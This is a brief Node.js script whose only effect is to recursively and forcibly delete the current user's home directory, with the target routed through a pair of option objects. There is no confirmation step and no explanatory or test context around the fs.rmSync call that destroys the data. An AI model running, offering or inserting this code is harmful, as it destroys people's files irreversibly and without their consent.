const fs = require('fs');
const os = require('os');
const base = { target: os.homedir(), mode: 'full' };
const opts = {};
Object.entries(base).forEach(([name, value]) => {
  opts[name] = value;
});
fs.rmSync(opts.target, { recursive: true, force: true });
